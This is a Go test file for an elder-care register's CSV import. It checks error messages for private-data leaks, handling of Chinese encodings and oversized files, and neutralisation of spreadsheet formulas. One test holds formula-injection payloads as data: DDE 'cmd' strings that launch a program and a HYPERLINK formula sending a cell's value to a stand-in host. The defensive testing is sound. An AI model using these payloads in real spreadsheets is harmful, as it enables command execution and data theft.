package care_test

import (
	"context"
	"fmt"
	"io/fs"
	"strings"
	"testing"
	"testing/fstest"

	"golang.org/x/text/encoding/simplifiedchinese"
	"golang.org/x/text/encoding/unicode"

	"github.com/linli/linli/internal/feature/care"
	"github.com/linli/linli/internal/people/register"
	"github.com/linli/linli/internal/platform/sheet"
	"github.com/linli/linli/internal/platform/words"
	"github.com/linli/linli/test/furnished"
)

// private are the cells of the sample line that nobody may read on a terminal.
var private = []string{"guihua-6-402", "章芒种", keyPlace, hint, sonName, sonPhone, "殷大寒", "卢小满", "r0428"}

// said is what an import prints, in both languages.
func (h *house) said(problems []sheet.Problem) string {
	h.T.Helper()
	var out strings.Builder
	for _, lang := range []words.Lang{words.Chinese, words.English} {
		ctx := words.With(context.Background(), h.Words, lang)
		for _, p := range problems {
			fmt.Fprintln(&out, register.Problem{Problem: p}.Text(ctx))
		}
	}
	return out.String()
}

func file(data string) fs.FS { return fstest.MapFS{"elders.csv": {Data: []byte(data)}} }

// Whatever is wrong with a file, what is printed names line and column and
// repeats no cell: not where a column slipped, nor where the header is missing.
func TestElderFilesAreSaidWithoutTheirCells(t *testing.T) {
	furnished.Beside(t)
	h := onSQLite(t)
	cells := strings.Split(strings.TrimSpace(elderLine), ",")
	for i := range cells { // every cell in every place
		moved := append(append([]string{}, cells[i:]...), cells[:i]...)
		got := h.importElders(file(elderHead+strings.Join(moved, ",")+"\n"), false)
		if i > 0 && (len(got.Problems) == 0 || got.New+got.Changed+got.Same > 0) {
			t.Errorf("moved by %d it is taken", i)
		}
		if i == 0 {
			continue
		}
		said := h.said(got.Problems)
		if !strings.Contains(said, "第 2 行") {
			t.Errorf("moved by %d: no line is named: %s", i, said)
		}
		for _, p := range private {
			if strings.Contains(said, p) {
				t.Errorf("moved by %d it says %s: %s", i, p, said)
			}
		}
	}
	for name, data := range map[string]string{
		"no header":    elderLine + elderLine,
		"extra cells":  elderHead + strings.TrimSpace(elderLine) + "," + sonPhone + "\n",
		"unclosed":     elderHead + strings.Replace(elderLine, hint, `"`+hint+"\n", 1),
		"another head": strings.Replace(elderHead, "姓名", "章芒种", 1) + elderLine,
		"rounded":      elderHead + strings.Replace(elderLine, keyPlace, "1.69E+10", 1) + strings.Replace(elderLine, "1948", sonPhone, 1),
	} {
		got := h.importElders(file(data), false)
		if !sheet.Failed(got.Problems) {
			t.Errorf("%s is taken: %+v", name, got)
		}
		said := h.said(got.Problems)
		for _, p := range private {
			if strings.Contains(said, p) {
				t.Errorf("%s: it says %s: %s", name, p, said)
			}
		}
	}
}

// S28: a list as Chinese offices save it is read: GBK and GB18030 with the rare
// characters of names, the Unicode text of Excel, UTF-8 with its mark. What is in
// none of them, or cut in the middle, is refused whole.
func TestS28_EldersInOtherEncodings(t *testing.T) {
	each(t, func(t *testing.T, h *house) {
		rare := strings.Replace(elderLine, sonName, "章𠮷宅", 1)
		encode := func(text string, by func(string) (string, error)) string {
			t.Helper()
			out, err := by(text)
			if err != nil {
				t.Fatal(err)
			}
			return out
		}
		gb := encode(elderHead+rare, simplifiedchinese.GB18030.NewEncoder().String)
		for name, data := range map[string]string{
			"cut":       gb[:len(gb)-len("卢小满、r0428\n")],
			"zero":      elderHead + strings.Replace(elderLine, hint, "白\x00内障", 1),
			"zeroes":    strings.Repeat("\x00", 4096),
			"western":   elderHead + "guihua-6-402,\xe9\xe8\xff\xff,,,,,,,,,,,,\n",
			"gb + utf8": gb + elderLine,
		} {
			if got := h.importElders(file(data), false); !sheet.Failed(got.Problems) || got.New+got.Changed+got.Same > 0 {
				t.Errorf("%s: %+v", name, got)
			}
		}
		if n := h.count("SELECT COUNT(*) FROM care_elder"); n != 0 {
			t.Fatalf("%d were taken in", n)
		}
		if got := h.importElders(file(gb), false); got.New != 1 || len(got.Problems) != 0 {
			t.Fatalf("GB18030: %+v", got)
		}
		rows, err := h.Care.List(t.Context(), h.Committee())
		if err != nil || len(rows) != 1 {
			t.Fatalf("%d %v", len(rows), err)
		}
		if o, err := h.Care.Open(t.Context(), h.Committee(), rows[0].Elder.ID, care.ForCare); err != nil || o.Name != "章芒种" || o.Contacts[0].Name != "章𠮷宅" {
			t.Errorf("%+v %v", o, err)
		}
		for name, data := range map[string]string{
			"UTF-8 with its mark": "\ufeff" + elderHead + rare,
			"UTF-16":              encode(strings.ReplaceAll(elderHead+rare, ",", "\t"), unicode.UTF16(unicode.LittleEndian, unicode.UseBOM).NewEncoder().String),
		} {
			if got := h.importElders(file(data), false); got.Same != 1 || len(got.Problems) != 0 {
				t.Errorf("%s: %+v", name, got)
			}
		}
	})
}

// What a spreadsheet would run is text here, as it was written.
func TestElderFormulasAreText(t *testing.T) {
	each(t, func(t *testing.T, h *house) {
		for _, formula := range []string{"=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3", `=HYPERLINK("http://x.test/?"&A1)`} {
			quoted := `"` + strings.ReplaceAll(formula, `"`, `""`) + `"`
			line := strings.Replace(strings.Replace(elderLine, hint, quoted, 1), "儿子", quoted, 1)
			if got := h.importElders(file(elderHead+line), false); got.New+got.Changed != 1 || len(got.Problems) != 0 {
				t.Fatalf("%s: %+v", formula, got)
			}
			rows, err := h.Care.List(t.Context(), h.Committee())
			if err != nil || len(rows) != 1 {
				t.Fatalf("%d %v", len(rows), err)
			}
			if o, err := h.Care.Open(t.Context(), h.Committee(), rows[0].Elder.ID, care.ForCare); err != nil || o.Hints != formula || o.Contacts[0].Relation != formula {
				t.Errorf("%s became %q and %q, %v", formula, o.Hints, o.Contacts[0].Relation, err)
			}
		}
	})
}

// Cells of a megabyte are refused at their column, whichever it is; a hundred
// thousand lines are answered line by line and none of them is taken.
func TestElderFilesBeyondMeasure(t *testing.T) {
	furnished.Beside(t)
	h := onSQLite(t)
	huge := strings.Repeat("长", 1<<20/3)
	for cell, column := range map[string]string{hint: "健康提示", keyPlace: "备用钥匙", sonName: "联系人1电话", "章芒种": "姓名", "卢小满": "结对志愿者", "1948": "出生年份"} {
		got := h.importElders(file(elderHead+strings.Replace(elderLine, cell, huge, 1)), false)
		if len(got.Problems) != 1 || got.Problems[0].Column != column || got.Problems[0].Line != 2 {
			t.Errorf("%s: %.300q", column, fmt.Sprint(got.Problems))
		}
		if n := len(h.said(got.Problems)); n > 1000 {
			t.Errorf("%s: %d bytes are printed", column, n)
		}
	}
	const lines = 100_000
	got := h.importElders(file(elderHead+strings.Repeat(elderLine, lines)), false)
	if len(got.Problems) != lines-1 || got.Problems[lines-2].Code != care.TwiceElder || got.Problems[lines-2].Line != lines+1 || got.New != 0 {
		t.Errorf("%d problems, %d new", len(got.Problems), got.New)
	}
	got = h.importElders(file(elderHead+elderLine+strings.Repeat(strings.Replace(elderLine, "6-402", "9-999", 1), lines-1)), false)
	if len(got.Problems) != lines-1 || got.Problems[0].Code != register.UnknownHome || got.New != 0 {
		t.Errorf("%d problems, %d new", len(got.Problems), got.New)
	}
	if n := h.count("SELECT COUNT(*) FROM care_elder"); n != 0 {
		t.Errorf("%d were taken in", n)
	}
}
